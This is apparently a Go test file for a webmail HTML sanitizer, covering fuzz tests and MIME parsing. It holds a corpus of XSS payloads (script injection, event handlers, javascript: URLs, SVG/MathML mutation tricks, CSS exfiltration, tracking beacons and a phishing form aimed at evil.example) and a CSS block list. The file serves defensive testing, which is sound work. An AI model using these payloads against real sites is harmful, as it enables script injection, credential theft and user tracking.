package webmail

import (
	"bytes"
	"io"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// xssCorpus are hostile bodies: each must come out without anything
// that runs script, fetches, navigates or escapes the frame.
var xssCorpus = []string{
	`<script>alert(1)</script>hello`,
	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	`<img src=x onerror=alert(1)>`,
	`<body onload=alert(1)>text</body>`,
	`<a href="javascript:alert(1)">click</a>`,
	`<a href="JaVaScRiPt:alert(1)">click</a>`,
	`<a href="java&#x09;script:alert(1)">click</a>`,
	"<a href=\"java\tscript:alert(1)\">click</a>",
	`<a href=" &#14;javascript:alert(1)">click</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)' /></svg>#x"/></svg>`,
	`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
	`<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Click</text></a></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
	`<math href="javascript:alert(1)">CLICKME</math>`,
	`<div style="background:url(https://evil.example/track.png)">x</div>`,
	`<div style="background:u\72l(https://evil.example/track.png)">x</div>`,
	`<div style="width: expression(alert(1))">x</div>`,
	`<div style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</div>`,
	`<div style="-moz-binding:url(http://evil.example/xss.xml#xss)">x</div>`,
	`<style>@import url(https://evil.example/x.css); body{background:url(https://evil.example/t)} .a{position:fixed}</style>`,
	`<style>*{color:red}</style><style>x{background:\75rl(http://evil.example)}</style>`,
	`<base href="https://evil.example/">`,
	`<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
	`<link rel=stylesheet href=https://evil.example/x.css>`,
	`<iframe src="https://evil.example/"></iframe>`,
	`<object data="https://evil.example/x.swf"></object><embed src="x.swf">`,
	`<form action="https://evil.example/"><input name=pw type=password><button>Log in</button></form>`,
	`<img src="https://evil.example/pixel.gif" width=1 height=1>`,
	`<img srcset="https://evil.example/a.png 1x">`,
	`<table background="https://evil.example/bg.png"><tr><td>x</td></tr></table>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<template><script>alert(1)</script></template>`,
	`<xmp><script>alert(1)</script></xmp>`,
	`<!--<img src=x onerror=alert(1)>-->`,
	`<div id="x" onclick="alert(1)" onmouseover=alert(1)>x</div>`,
	`<p style="color:red" STYLE="x:expression(alert(1))">x</p>`,
	`<a href="https://ok.example/" target="_top" onclick="x()">ok</a>`,
	`<video><source onerror="alert(1)"></video>`,
	`<details open ontoggle=alert(1)>`,
	`<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
	`<style>@media screen { a { color: red; background: url(https://evil.example/) } }</style>`,
	`<style></style><img src=x onerror=alert(1)>`,
	`<select><template><style><img src=x onerror=alert(1)></style></template></select>`,
	`<a href="https://ok.example/"><svg><script>alert(1)</script></svg></a>`,
	`"><script>alert(document.domain)</script>`,
}

// checkSafe re-parses a sanitised body as a browser would and fails on
// anything that could run, fetch or navigate.
func checkSafe(t testing.TB, in, out string) {
	t.Helper()
	doc, err := html.Parse(strings.NewReader(out))
	if err != nil {
		t.Fatalf("output does not parse: %v", err)
	}
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode {
			if n.Namespace != "" {
				t.Errorf("%q: foreign element %s:%s in %q", in, n.Namespace, n.Data, out)
			}
			if droppedElements[n.DataAtom] {
				t.Errorf("%q: element %s in %q", in, n.Data, out)
			}
			for _, a := range n.Attr {
				k, v := strings.ToLower(a.Key), strings.ToLower(a.Val)
				switch {
				case strings.HasPrefix(k, "on"):
					t.Errorf("%q: event handler %s in %q", in, k, out)
				case k == "href" && !(strings.HasPrefix(v, "http://") || strings.HasPrefix(v, "https://") || strings.HasPrefix(v, "mailto:")):
					t.Errorf("%q: link %q in %q", in, a.Val, out)
				case k == "src" && !strings.HasPrefix(v, "data:image/"):
					t.Errorf("%q: src %q in %q", in, a.Val, out)
				case k == "src" && strings.HasPrefix(v, "data:image/svg"):
					t.Errorf("%q: svg image in %q", in, out)
				case k == "style" && badCSS(v):
					t.Errorf("%q: style %q in %q", in, a.Val, out)
				case k == "srcset" || k == "background" || k == "action" || k == "formaction" || k == "id" || k == "name":
					t.Errorf("%q: attribute %s in %q", in, k, out)
				}
			}
			if n.Data == "style" {
				var css strings.Builder
				for c := n.FirstChild; c != nil; c = c.NextSibling {
					css.WriteString(c.Data)
				}
				if badCSS(strings.ToLower(css.String())) {
					t.Errorf("%q: sheet %q in %q", in, css.String(), out)
				}
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(doc)
}

func badCSS(v string) bool {
	for _, bad := range []string{"url(", "expression", "position", "binding", "behavior", "@import", "\\", "javascript"} {
		if strings.Contains(v, bad) {
			return true
		}
	}
	return false
}

func TestSanitizeRemovesEverythingHostile(t *testing.T) {
	for _, in := range xssCorpus {
		out := Sanitize(in)
		checkSafe(t, in, out)
		if again := Sanitize(out); again != out {
			t.Errorf("%q: sanitising twice changes it:\n%q\n%q", in, out, again)
		}
	}
}

func TestSanitizeKeepsOrdinaryMail(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{`<p>Hello <b>there</b></p>`, `<p>Hello <b>there</b></p>`},
		{`<a href="https://example.com/x?a=1&b=2">link</a>`, `<a href="https://example.com/x?a=1&amp;b=2" target="_blank" rel="noopener noreferrer">link</a>`},
		{`<a href="mailto:me@example.com">me</a>`, `<a href="mailto:me@example.com" target="_blank" rel="noopener noreferrer">me</a>`},
		{`<p style="color: red; font-weight: bold">x</p>`, `<p style="color: red; font-weight: bold">x</p>`},
		{`<p style="color: rgb(1,2,3); position: fixed">x</p>`, `<p style="color: rgb(1,2,3)">x</p>`},
		{`<table border="0" cellpadding="2"><tr><td align="center">x</td></tr></table>`, `<table border="0" cellpadding="2"><tbody><tr><td align="center">x</td></tr></tbody></table>`},
		{`<img src="https://tracker.example/p.gif" alt="logo">`, `<img alt="logo"/>`},
		{`<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">`, `<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot"/>`},
		{`<html><head><title>T</title><style>p { color: blue }</style></head><body><p>x</p></body></html>`, "<style>p { color: blue }</style><p>x</p>"},
		{`<style>@media (max-width: 600px) { td { width: 100% } }</style>`, "<style>@media (max-width: 600px) {\ntd { width: 100% }\n}</style>"},
		{`<custom-tag>kept text</custom-tag>`, `kept text`},
		{`<form><p>inside</p><input value=x></form>`, `<p>inside</p>`},
		{`a &lt;b&gt; c`, `a &lt;b&gt; c`},
	} {
		if got := Sanitize(c.in); got != c.want {
			t.Errorf("Sanitize(%q)\n got %q\nwant %q", c.in, got, c.want)
		}
	}
}

func TestTextIsEscapedThenLinkified(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{`<script>alert(1)</script>`, `&lt;script&gt;alert(1)&lt;/script&gt;`},
		{`see https://example.com/a?b=1&c=2.`, `see <a href="https://example.com/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer">https://example.com/a?b=1&amp;c=2</a>.`},
		{`x "https://e.example/"onmouseover=alert(1)`, `x &#34;<a href="https://e.example/" target="_blank" rel="noopener noreferrer">https://e.example/</a>&#34;onmouseover=alert(1)`},
		{`javascript:alert(1)`, `javascript:alert(1)`},
	} {
		got := textToHTML(c.in)
		got = strings.TrimSuffix(strings.TrimPrefix(got, got[:strings.IndexByte(got, '>')+1]), "</div>")
		if got != c.want {
			t.Errorf("textToHTML(%q)\n got %q\nwant %q", c.in, got, c.want)
		}
	}
}

func FuzzSanitize(f *testing.F) {
	for _, s := range xssCorpus {
		f.Add(s)
	}
	f.Add(`<p style="color:red">x</p><a href="https://a.example">a</a>`)
	f.Fuzz(func(t *testing.T, in string) {
		if len(in) > 1<<16 {
			return
		}
		out := Sanitize(in)
		checkSafe(t, in, out)
	})
}

// FuzzParseContent: the MIME walk of any message ends within its caps,
// the page's walk of it as a stream (streamContent) shows the same, and
// a download's walk of it as a stream (streamAttachment) finds each
// attachment the page lists, with the same bytes.
func FuzzParseContent(f *testing.F) {
	f.Add([]byte("Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html; charset=iso-8859-1\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n<p>Caf=E9</p>\r\n--b\r\nContent-Type: application/pdf; name=\"=?utf-8?q?<script>.pdf?=\"\r\nContent-Transfer-Encoding: base64\r\n\r\nJVBERi0=\r\n--b--\r\n"))
	f.Add([]byte("Content-Type: message/rfc822\r\n\r\nSubject: inner\r\nContent-Type: text/plain; charset=koi8-r\r\n\r\n\xf0\xd2\xc9\xd7\xc5\xd4\r\n"))
	f.Fuzz(func(t *testing.T, msg []byte) {
		c := parseContent(msg)
		if len(c.HTML)+len(c.Text) > 4*maxTotalText || len(c.Attachments) > maxParts {
			t.Fatalf("over the caps: %d bytes, %d attachments", len(c.HTML)+len(c.Text), len(c.Attachments))
		}
		checkSafe(t, string(msg), Sanitize(c.HTML))
		sc := streamContent(bytes.NewReader(msg))
		if sc.HTML != c.HTML || sc.Text != c.Text || len(sc.Attachments) != len(c.Attachments) {
			t.Fatalf("streamed %+v\nwhole %+v", sc, c)
		}
		for n, a := range sc.Attachments {
			if w := c.Attachments[n]; a.Name != w.Name || a.Type != w.Type || a.Size != w.Size || a.ContentID != w.ContentID {
				t.Fatalf("attachment %d: streamed %+v, whole %+v", n, a, w)
			}
		}
		for n, want := range c.Attachments {
			var got attachment
			var data []byte
			var readErr error
			found, _ := streamAttachment(bytes.NewReader(msg), n, func(a attachment, raw io.Reader) error {
				got = a
				data, readErr = io.ReadAll(decoder(a.enc, raw))
				return readErr
			})
			if !found || got.Index != n || got.Name != want.Name || got.Type != want.Type || (readErr == nil && !bytes.Equal(data, want.data())) {
				t.Fatalf("attachment %d: streamed %+v (found %v, %v), listed %+v", n, got, found, readErr, want)
			}
		}
	})
}
